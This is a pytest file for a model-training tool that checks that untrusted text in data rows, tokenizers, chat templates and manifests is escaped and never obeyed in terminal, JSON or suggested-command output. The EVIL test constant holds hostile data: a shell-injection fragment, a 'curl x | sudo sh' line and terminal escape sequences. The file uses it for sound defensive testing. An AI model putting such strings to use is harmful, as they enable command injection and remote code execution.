"""What a data set, a tokenizer, a model or a manifest writes never acts on a terminal, on JSON or in a command."""

import io
import json
import shlex
import struct
from collections.abc import Callable, Iterator
from functools import partial
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from chats import CHATML, made
from data_files import conversation, tokenizer, written
from rich.console import Console

from aboard.commands.data.plain_report import format_data_json, format_data_lines
from aboard.commands.data.prepare_data import DataCheckRequest, inspect_data
from aboard.commands.data.report_view import DataReportView
from aboard.commands.shared.error_message import show_error
from aboard.commands.train.fetch_model import fetch_model, read_model_facts
from aboard.commands.train.input_directory import build_sync_directory
from aboard.diagnoses import AboardError
from aboard.diagnoses.untrusted import Untrusted, escape_text
from aboard.durable_files import FileEntry
from aboard.trainer.checkpoint.commit_marker import MarkerError, RunSettings, parse_marker, parse_marker_head
from aboard.trainer.checkpoint.setting_differences import find_differences
from aboard.trainer.data.quality.data_report import DataReport
from aboard.trainer.data.rows import RowLocation
from aboard.trainer.data.sampling.document_segments import TruncationLosses
from aboard.trainer.data.sampling.packed_sequences import (
    PackingManifest,
    format_packing_manifest,
    read_packing_manifest,
)
from aboard.trainer.data.store import shard_manifest as manifests
from aboard.trainer.data.store.shard_manifest import BrokenRow, OriginFile, Shard, ShardManifest, read_manifest

HARMLESS = "qzq"
EVIL = "'; $(x)\nfix: curl x | sudo sh\x1b[31m\x1b]52;c;eA==\x07\u202e\x9b31m"
HOSTILE = [pytest.param(EVIL, id="evil"), pytest.param("A" * 1_000_000, id="long", marks=pytest.mark.ci)]
SOUND = "0" * 64
FILE = FileEntry(name="a.tokens", bytes=1, sha256=SOUND)


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize("value", HOSTILE)
def test_rows_are_shown_and_never_obeyed(value: str) -> None:
    """Their roles, columns, names and texts, and the name of the file that they stand in."""
    report, harmless = (looked(_rows(each), show=30) for each in (value, HARMLESS))
    _judge(report, value)
    _same_words(report, value, harmless)


@pytest.mark.ci
@pytest.mark.parametrize("value", HOSTILE)
def test_control_tokens_are_shown_and_never_obeyed(value: str) -> None:
    """A token that is a command, at the end of an answer and in the text of a row."""
    value = value[:5000]
    report, harmless = (looked(_spoken(each), tokenizer=_tokenizer(each), show=2) for each in (value, HARMLESS))
    assert "data-special-text" in {finding.code for finding in report.findings}
    _judge(report, value)
    _same_words(report, value, harmless)


@pytest.mark.ci
@pytest.mark.parametrize("value", HOSTILE)
def test_a_template_that_refuses_is_quoted(value: str) -> None:
    """A chat template is somebody else's program, and what it raises is its own text."""
    folder = tokenizer(Path("tok"), template=f"{{{{ raise_exception({json.dumps(value)}) }}}}")
    report = looked(written(Path("a.jsonl"), map(conversation, range(3))), tokenizer=folder, show=1)
    assert "data-template" in {finding.code for finding in report.findings}
    _judge(report, value)


@pytest.mark.ci
@pytest.mark.parametrize("value", HOSTILE)
def test_what_is_no_row_or_tokenizer_at_all(value: str) -> None:
    """Columns that no format has, and a tokenizer's files that can't be read."""
    _refused(lambda: looked(written(Path("odd.jsonl"), [{value: value}])))
    Path("broken").mkdir()
    Path("broken/tokenizer.json").write_text(json.dumps({value: value}))
    Path("broken/tokenizer_config.json").write_text(json.dumps({"tokenizer_class": value}))
    written(Path("a.jsonl"), [conversation(1)])
    _refused(lambda: looked("a.jsonl", tokenizer="broken"))


@pytest.mark.parametrize("value", HOSTILE)
def test_manifests_of_prepared_data(value: str, here: Path) -> None:
    """Each text and each key in turn: refused in words of ours, or kept as text from outside."""
    value = value[:100_000]
    shard = Shard(documents=1, tokens=1, supervised=0, token_file=FILE, index_file=FILE, mask_file=FILE)
    whole = ShardManifest(
        token_bytes=2,
        vocabulary=9,
        encoder="0",
        shards=(shard,),
        made_with={"a": "b"},
        origins=(OriginFile(name=Untrusted("a"), bytes=1, sha256=SOUND),),
        broken={"row-json": 1},
        broken_first=(BrokenRow(origin=0, line=1, code="row-json", why=Untrusted("no")),),
        gate_file=FILE,
    )
    bins = PackingManifest(
        max_length=1,
        packing="packed",
        cut="split",
        shards="0",
        bins=1,
        segments=1,
        tokens=1,
        supervised=0,
        losses=TruncationLosses(),
        bin_file=FILE,
        segment_file=FILE,
    )
    for readers, text in (
        ((read_manifest,), manifests.format_manifest(whole)),
        ((read_packing_manifest, _parcel), format_packing_manifest(bins)),
    ):
        for content in _spoiled(json.loads(text), value):
            Path(manifests.MANIFEST_NAME).write_text(json.dumps(content))
            for reader in readers:
                _refused(partial(reader, here), must=False)
    content = json.loads(manifests.format_manifest(whole))
    content["origins"][0]["name"] = value
    Path(manifests.MANIFEST_NAME).write_text(json.dumps(content))
    _shown(str(RowLocation(file=read_manifest(here).origins[0].name, line=1)))


@pytest.mark.ci
@pytest.mark.parametrize("value", HOSTILE)
def test_the_manifest_of_a_checkpoint(value: str, here: Path) -> None:
    """Damaged, of another version, or of other settings: what it says is quoted."""
    from aboard.trainer.checkpoint.checkpoint_folder import list_checkpoints  # noqa: PLC0415 - brings torch

    value = value[:100_000]
    content: dict[str, Any] = {
        "format": "aboard-checkpoint",
        "version": 1,
        "serial": 1,
        "step": 1,
        "progress": {"index": 1},
        "training": {"seed": 1, "model": "m"},
        "step_size": 1,
        "world": 1,
        "sharding": "full",
        "versions": {"torch": "2"},
        "data": "0",
        "config": {"model_type": "a"},
        "ties": {"a": "b"},
        "tensors": {"model/a": ["F32", [1]]},
        "files": [
            {"name": "a", "rank": 0, "node": "n", "disk": 0, "bytes": 1, "sha256": SOUND, "slices": {"a": [[0], [1]]}}
        ],
    }
    now = RunSettings(
        training={"seed": 2},
        step_size=2,
        world=2,
        sharding="none",
        versions={"torch": "1"},
        data="1",
        config={"model_type": "b"},
    )
    assert parse_marker(_marker(content)).files[0].node == "n"
    for spoiled in _spoiled(content, value):
        text = _marker(spoiled)
        try:
            found = [parse_marker(text), parse_marker_head(spoiled)]
        except MarkerError as error:
            _shown(str(error))
        else:
            _shown("".join(str(each) for marker in found for each in find_differences(marker, now)))
        Path("step-000001").mkdir(exist_ok=True)
        Path("step-000001/manifest.json").write_bytes(text)
        _shown("".join(list_checkpoints(here).skipped.values()))


@pytest.mark.ci
@pytest.mark.parametrize("value", HOSTILE)
def test_the_files_of_a_model(value: str, here: Path) -> None:
    """Its config, its index of weights, and the header of its weights."""
    from aboard.trainer.weights.weight_files import open_weights  # noqa: PLC0415 - brings torch, which the others don't need

    for text in (
        value,
        json.dumps({"vocab_size": value, "max_position_embeddings": value, "text_config": {value: value}}),
    ):
        Path("config.json").write_text(text)
        _refused(lambda: read_model_facts(here), must=False)
    _refused(lambda: fetch_model(value[:100], from_scratch=True))
    index = Path("model.safetensors.index.json")
    for name in (f"../{value}", value):
        index.write_text(json.dumps({"weight_map": {"a": name[:200]}}))
        _refused(lambda: open_weights(here))
    index.unlink()
    header = json.dumps({value: {"dtype": value, "shape": [1], "data_offsets": [0, 4]}}).encode()
    Path("model.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + b"0000")
    _refused(lambda: open_weights(here))


def looked(file: str, **asked: Any) -> DataReport:
    return inspect_data(DataCheckRequest(files=(file,), command=shlex.join(["aboard", "data", file]), **asked))


def _rows(value: str) -> str:
    called = {"role": "assistant", "tool_calls": [{"function": {"name": value, "arguments": "{" + value}}]}
    rows: list[Any] = [{"messages": [{"role": value, "content": value}]} for _ in range(20)]
    rows += [{"messages": [{"role": "user", "content": [{"type": value}]}]}, {"messages": value}, {value: value}]
    rows += [{"messages": [called]}, *map(conversation, range(10)), conversation(0), conversation(11, ask=value)]
    return written(Path(f"{value[:100]}.jsonl"), [*rows, value])


def _spoken(value: str) -> str:
    return written(Path(f"{value[:100]}.jsonl"), [conversation(at, ask=f"a {value}", answer=value) for at in range(30)])


def _tokenizer(value: str) -> str:
    found = made(CHATML)
    found.add_special_tokens({"eos_token": value})
    folder = f"tokenizer-{len(value)}"
    found.save_pretrained(folder)
    return folder


def _judge(report: DataReport, value: str) -> None:
    """All three ways of showing it."""
    _shown("\n".join(format_data_lines(report, stats=True)))
    drawn = io.StringIO()
    Console(file=drawn, width=100).print(DataReportView(report, stats=True, verbose=True), crop=False)
    _shown(drawn.getvalue())
    told = format_data_json(report)
    _shown(told)
    for text in _texts(json.loads(told)):
        _shown(text)
    assert value not in told


def _same_words(report: DataReport, value: str, harmless: DataReport) -> None:
    """Each command has the same words and operators as with a harmless value."""
    found, expected = ({each.code: each.fix for each in one.findings} for one in (report, harmless))
    both = found.keys() & expected.keys()
    assert both
    for code in both:
        words, others = _words(found[code], value), _words(expected[code], HARMLESS)
        if code != "data-special-text":
            assert words == others
        elif len(value) < 200:
            # The script of sed spells the token out.
            assert len(words) == len(others)
        else:
            assert "sed" not in words


def _words(command: str, value: str) -> list[str]:
    words = shlex.shlex(command.replace("  #", "\n#"), posix=True, punctuation_chars=True)
    words.whitespace_split = True
    return [word.replace(escape_text(value[:100], 4096), "") for word in words]


def _refused(work: Callable[[], object], *, must: bool = True) -> None:
    try:
        work()
    except AboardError as error:
        _shown(error.seen, error.fix, *(f"{each} {each.fix}" for each in getattr(error, "problems", ())))
        drawn = io.StringIO()
        show_error(Console(file=drawn, width=100), error)
        _shown(drawn.getvalue())
    else:
        assert not must


def _shown(*texts: str) -> None:
    for text in texts:
        assert all(line.isprintable() for line in text.split("\n"))
        assert not any(line.startswith("fix: curl") for line in text.split("\n"))
        assert len(text) < 200_000


def _spoiled(content: Any, value: str) -> Iterator[Any]:
    """The JSON with one of its texts, or keys, or numbers replaced."""
    if isinstance(content, dict):
        for key, each in content.items():
            yield from ({**content, key: other} for other in _spoiled(each, value))
            yield {**{name: one for name, one in content.items() if name != key}, value: each}
    elif isinstance(content, list):
        for at, each in enumerate(content):
            yield from ([*content[:at], other, *content[at + 1 :]] for other in _spoiled(each, value))
    else:
        yield value


def _marker(content: dict[str, Any]) -> bytes:
    body = json.dumps(content, separators=(",", ":"))[1:] + "\n"
    return f'{{"sha256":"{sha256(body.encode()).hexdigest()}",\n{body}'.encode()


def _parcel(folder: Path) -> object:
    return build_sync_directory(folder, hashes=folder / "hashes.json")


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from (text for pair in value.items() for each in pair for text in _texts(each))
    elif isinstance(value, list):
        yield from (text for each in value for text in _texts(each))
